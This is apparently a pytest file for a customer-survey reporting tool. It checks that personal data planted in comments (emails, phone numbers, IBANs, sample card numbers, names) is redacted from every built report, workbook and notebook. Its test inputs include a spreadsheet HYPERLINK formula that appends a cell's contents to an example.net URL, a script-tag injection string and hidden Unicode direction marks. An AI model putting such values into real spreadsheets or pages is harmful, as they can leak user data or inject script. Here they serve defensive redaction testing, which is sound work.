"""What customers wrote of themselves is in nothing that a build leaves, whatever file it is."""

from __future__ import annotations

import base64
import html
import io
import re
import unicodedata
import zipfile
from typing import TYPE_CHECKING

import nbformat
import numpy as np
import pytest
from planted import BEFORE_IT, WRITTEN
from small_project import CODEBOOK, RESPONSES, Command, write_notebook, write_project

from cxreport.publish.run import run_notebook

if TYPE_CHECKING:
    from pathlib import Path

# check digits: published samples of the ISO 13616 registry, card networks and Agenzia delle Entrate
SECRETS = {
    "Scrivetemi a anna.bellandi@example.org": "anna.bellandi",
    "Write to me: carla (at) example dot net": "carla (at)",
    "Mail: dar\u200bio@exam\u200bple.com": "dario@",
    "Chiamatemi al 333 123 45 67": "3331234567",
    "Call +44 20 7946 0958": "2079460958",
    "Il fisso è ０６ 69881234": "0669881234",
    "Codice fiscale RSSMRA85T10A562S": "RSSMRA85T10A562S",
    "Rimborso su IT60 X054 2811 1010 0000 0123 456": "IT60X0542811101000000123456",
    "Rimborso su DE8937\u200b0400440532013000": "DE89370400440532013000",
    "La carta è 4111 1111 1111 1111": "4111111111111111",
    "Fattura a P.IVA 00743110157": "00743110157",
    "Sono nata a Forlì il 03/04/1975": "03/04/1975",
    "Abito in via Garibaldi 17, Cuneo": "Garibaldi",
    "I live at 221b Baker Street": "Baker",
    "La mia auto è AB123CD": "AB123CD",
    "Salve, mi chiamo Ermenegilda Lusardi": "Ermenegilda",
    "My name is Bartholomew": "Bartholomew",
    "La sig.ra Pellizza lo sa": "Pellizza",
    "Foto su https://example.org/u/serlupi": "serlupi",
    "Sono @rovatti_1980": "rovatti",
    "L'ordine MX-778812 non arriva": "778812",
    '=HYPERLINK("https://example.net/?q="&A1,"morganti@example.net")': "morganti",
    "<script>alert('gorlani@example.net')</script>": "gorlani",
    "\u202eSono\u202c corvetti&#64;example.net": "corvetti",
}
COMMENT = """
[tables.responses.columns.comment]
role = "comment"

[tables.tickets]
files = "tickets.csv"
columns.ticket_id = { role = "id" }
columns.created_at = { role = "date" }
columns.text = { role = "other" }

[tables.verbatims]
files = "verbatims.csv"
columns.text_id = { role = "id" }
columns.created_at = { role = "date" }
columns.text = { role = "comment" }
columns.reply = { role = "other" }
"""
SHOWN = """
import cxreport as cx
import pandas as pd
from cxreport.inputs.source import run
survey = cx.open_survey(source, period=period)
asked, written = survey.table("tickets"), survey.table("verbatims")
texts = pd.concat([run(survey.responses.select("comment"))["comment"], run(asked)["text"],
                   *(run(written)[name] for name in ("text", "reply"))])
rows = pd.DataFrame({"comment": texts.dropna()})
everything = " | ".join(sorted({*rows["comment"]}))
print(everything)
"""
SENTENCE = """
from cxreport.show.parts import say, sentences
words = sorted({"".join(text.split()) for text in rows["comment"]})
groups = {"own": "detractor", "other": "promoter"}
cx.show.parts.sentences("voice", [say("words.more", words=words[:45], n=2, **groups)])
"""
FIGURE = """
import matplotlib.pyplot as plt
drawn, axes = plt.subplots()
axes.set_title(everything[:40])
titles = {"en": "Comments", "it": "Commenti"}
cx.show.figure(drawn, rows, title=titles, alt={"en": everything, "it": everything})
"""
TABLE = 'cx.show.plain_table(rows, title={"en": everything, "it": everything})'
FAILS = "raise ValueError(everything)"
METHOD = TABLE.replace("plain_table(rows", "plain_table(rows.head(60)")
RAW = """
import pandas as pd
rows = pd.read_csv("data/mini/responses.csv")[["comment"]]
everything = next(text for text in rows["comment"] if "Erme" "negilda" in text)
rows = rows.assign(comment=everything).head(1)
import cxreport as cx
"""
KINDS = ("html", "xlsx", "summary.txt", "summary.html", "summary.json")


def drawn_secrets(n: int = 52) -> dict[str, str]:
    """Plant pieces of all kinds, written as people write them; a name alone may be anybody's."""
    rng, secrets = np.random.default_rng(2026), {}
    kinds = [kind for kind in WRITTEN if kind not in {"name", "handle"}]
    for number in range(n):
        written = WRITTEN[kinds[number % len(kinds)]](rng)
        secrets[f"Scrivo per questo: {written}"] = BEFORE_IT.sub("", written)
    return secrets


DRAWN = drawn_secrets()


def write(root: Path, *cells: str, name: str = "mini") -> None:
    """Write the small project with texts that name persons, in all tables that hold texts."""
    write_project(root, names=(name,))
    (root / "data/mini/codebook.toml").write_text(
        CODEBOOK.replace("observed_until", 'id_patterns = { order = "MX-[0-9]+" }\nobserved_until')
        + COMMENT,
        "utf-8",
    )
    drawn = [quoted(text) for text in DRAWN]
    lines = RESPONSES.splitlines()
    comments = [quoted(text) for text in SECRETS] * (len(lines) // len(SECRETS) + 1)
    rows = [f"{line},{text}" for line, text in zip(lines[1:], comments, strict=False)]
    asked = [f"T{n},2026-10-05,{text}" for n, text in enumerate(drawn[:24])]
    pairs = zip(drawn[24::2], drawn[25::2], strict=False)
    said = [f"V{n},2026-10-05,{text},{reply}" for n, (text, reply) in enumerate(pairs)]
    for table, head, written in (
        ("responses", lines[0] + ",comment", rows),
        ("tickets", "ticket_id,created_at,text", asked),
        ("verbatims", "text_id,created_at,text,reply", said),
    ):
        (root / f"data/mini/{table}.csv").write_text("\n".join([head, *written]), "utf-8")
    write_notebook(root, *cells, name=name)
    path = root / "notebooks" / f"{name}.ipynb"
    notebook = nbformat.read(path, as_version=4)
    if METHOD in cells:
        notebook.cells[-1].metadata["tags"] = ["method"]
    nbformat.write(notebook, path)


def quoted(text: str) -> str:
    """Write a text as a cell of a CSV file."""
    inner = text.replace('"', '""')
    return f'"{inner}"'


def plain(text: str) -> str:
    """Return a text as a person would read it, without blanks and signs that nobody sees."""
    written = unicodedata.normalize("NFKC", html.unescape(html.unescape(text)))
    return "".join(
        sign for sign in written if unicodedata.category(sign) != "Cf" and not sign.isspace()
    )


def read_out(root: Path) -> dict[str, str]:
    """Return all that stands in any file but the data, what files hold inside them included."""
    texts = {}
    for path in sorted(root.rglob("*")):
        if path.is_file() and root / "data" not in path.parents:
            content = path.read_bytes()
            if zipfile.is_zipfile(io.BytesIO(content)):
                with zipfile.ZipFile(io.BytesIO(content)) as book:
                    content = b"\n".join(book.read(name) for name in book.namelist())
            text = content.decode("utf-8", "replace")
            for data in re.findall(r"base64,([A-Za-z0-9+/=]+)", text):
                text += base64.b64decode(data).decode("utf-8", "replace")
            texts[str(path.relative_to(root))] = plain(text)
    return texts


def named(root: Path) -> dict[str, list[str]]:
    """Return the secrets that are told, by the file that tells them."""
    secrets = {plain(secret) for secret in [*SECRETS.values(), *DRAWN.values()]}
    told = {name: sorted(s for s in secrets if s in text) for name, text in read_out(root).items()}
    return {name: those for name, those in told.items() if those}


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("named")
    write(root, SHOWN, SENTENCE, FIGURE, TABLE, METHOD)
    code, text = Command(root, "build").end()
    assert code == 0, text
    kept = root / "kept"
    kept.mkdir()
    run_notebook(
        root / "notebooks/mini.ipynb", kept / "executed.ipynb",
        {"source": "mini", "period": "2026-10"}, time_limit=300, log=kept / "run.log", folder=root,
    )  # fmt: skip
    return root


MARKS = {"email", "phone", "taxcode", "IBAN", "card", "VATnumber", "dateofbirth", "address",
         "plate", "name", "link", "handle", "order"}  # fmt: skip


def test_every_file_shows_the_comments(built: Path) -> None:
    texts = read_out(built)
    page = texts["reports/mini/2026-10/it.html"]
    assert {mark for mark in MARKS if f"[{mark}]" in page} == MARKS
    published = [f"reports/mini/2026-10/{language}.{kind}"
                 for language in ("en", "it") for kind in KINDS]  # fmt: skip
    methods = [f"reports/mini/2026-10/method.{language}.html" for language in ("en", "it")]
    for name in (*published, *methods, "reports/index.html", "kept/executed.ipynb"):
        assert "[email]" in texts[name], name


def test_no_secret_is_in_anything_that_a_build_leaves(built: Path) -> None:
    assert {name.rpartition(".")[2] for name in read_out(built)} >= {"html", "xlsx", "log", "ipynb"}
    assert named(built) == {}


def test_the_check_names_no_person_either(built: Path) -> None:
    code, text = Command(built, "check", "mini").end()
    assert code == 0
    assert "x [email] taken out of" in text
    assert named(built) == {}  # what it said is a file of the project, too


def test_a_run_that_fails_tells_no_secret(tmp_path: Path) -> None:
    write(tmp_path, SHOWN, FAILS)
    code, _ = Command(tmp_path, "build").end()
    assert code != 0
    assert "ValueError" in "".join(read_out(tmp_path).values())
    assert named(tmp_path) == {}


def test_the_search_finds_what_is_told_in_each_file(tmp_path: Path) -> None:
    write(tmp_path, RAW, SENTENCE, FIGURE, TABLE, METHOD)
    code, text = Command(tmp_path, "build").end()
    assert code == 0, text
    told = named(tmp_path)
    assert {secret for those in told.values() for secret in those} == {"Ermenegilda"}
    published = {f"{language}.{kind}" for language in ("en", "it") for kind in KINDS}
    published |= {"method.en.html", "method.it.html"}
    for folder in ("reports/mini/2026-10", "reports/latest/mini"):
        assert {f"{folder}/{name}" for name in published} <= {*told}
    assert {"reports/index.html", "reports/index.it.html"} <= {*told}
    page = (tmp_path / "reports/mini/2026-10/it.html").read_text("utf-8")
    assert "Ermenegilda" in re.search(r"<svg.*?</svg>", page, re.DOTALL)[0]  # its alternative text
    downloads = [base64.b64decode(data) for data in re.findall(r"base64,([A-Za-z0-9+/=]+)", page)]
    assert any(b"Ermenegilda" in data for data in downloads)
